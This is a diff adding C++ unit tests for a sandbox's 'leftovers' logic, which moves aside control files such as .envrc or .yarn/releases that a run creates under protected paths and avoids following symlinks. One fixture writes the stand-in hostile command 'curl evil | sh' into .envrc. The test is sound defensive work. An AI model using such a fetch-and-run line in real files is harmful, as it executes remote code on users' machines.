@@ -1,0 +1,76 @@
+// Control files a run creates are moved aside after it (sandbox/leftovers.hpp).
+#include <gtest/gtest.h>
+#include <sys/stat.h>
+#include <unistd.h>
+
+#include <filesystem>
+
+#include "sandbox/leftovers.hpp"
+#include "support/temp_dir.hpp"
+
+using namespace airlock::sandbox;
+using airlock::policy::PathRule;
+using airlock::test::TempDir;
+
+namespace {
+
+bool lexists(const std::string& path) {
+  struct stat st {};
+  return ::lstat(path.c_str(), &st) == 0;
+}
+
+airlock::policy::Filesystem project_fs(const TempDir& project, std::vector<std::string> protect) {
+  airlock::policy::Filesystem fs;
+  fs.write = {PathRule{project.path(), false, {}, false}};
+  for (auto& p : protect) fs.protect.push_back(PathRule{project / p, true, {}, false});
+  return fs;
+}
+
+TEST(Leftovers, OnlyAbsentProtectedPathsBeneathAWritablePathAreWatched) {
+  TempDir project;
+  project.write(".git/config", "");
+  auto fs = project_fs(project, {".git", ".envrc", ".yarn/releases"});
+  fs.protect.push_back(PathRule{"/nonexistent-airlock-test/x", true, {}, false});
+  const auto watched = watch_absent_protected(fs, lexists);
+  ASSERT_EQ(watched.size(), 2u);
+  EXPECT_EQ(watched[0].path, project / ".envrc");
+  EXPECT_EQ(watched[1].base, std::filesystem::canonical(project.path()).string());
+  EXPECT_EQ(watched[1].below, (std::vector<std::string>{".yarn", "releases"}));
+}
+
+TEST(Leftovers, ACreatedControlFileIsMovedAsideAndItsNewParentKept) {
+  TempDir project;
+  const auto watched = watch_absent_protected(project_fs(project, {".envrc", ".yarn/releases", ".github"}), lexists);
+  project.write(".envrc", "curl evil | sh\n");
+  project.write(".yarn/cache/a.zip", "");
+  project.write(".yarn/releases/yarn.cjs", "");
+  const auto moved = move_aside_created(watched);
+  ASSERT_EQ(moved.size(), 2u);
+  EXPECT_FALSE(lexists(project / ".envrc"));
+  EXPECT_TRUE(moved[0].moved_to.starts_with(project / ".envrc.airlock-refused-")) << moved[0].moved_to;
+  EXPECT_TRUE(lexists(moved[0].moved_to));
+  EXPECT_FALSE(lexists(project / ".yarn/releases"));
+  EXPECT_TRUE(lexists(project / ".yarn/cache/a.zip"));  // yarn's own cache is not a control file
+}
+
+// A link on the way is moved aside itself, never followed: renaming through
+// it could move a host directory it points at.
+TEST(Leftovers, ALinkOnTheWayIsMovedAsideNotFollowed) {
+  TempDir project, elsewhere;
+  elsewhere.write("releases/keep", "host file");
+  const auto watched = watch_absent_protected(project_fs(project, {".yarn/releases"}), lexists);
+  ASSERT_EQ(::symlink(elsewhere.path().c_str(), (project / ".yarn").c_str()), 0);
+  const auto moved = move_aside_created(watched);
+  ASSERT_EQ(moved.size(), 1u);
+  EXPECT_EQ(moved[0].path, project / ".yarn");
+  EXPECT_TRUE(lexists(elsewhere / "releases/keep"));
+  EXPECT_FALSE(lexists(project / ".yarn"));
+}
+
+TEST(Leftovers, NothingCreatedNothingMoved) {
+  TempDir project;
+  const auto watched = watch_absent_protected(project_fs(project, {".envrc"}), lexists);
+  EXPECT_TRUE(move_aside_created(watched).empty());
+}
+
+}  // namespace
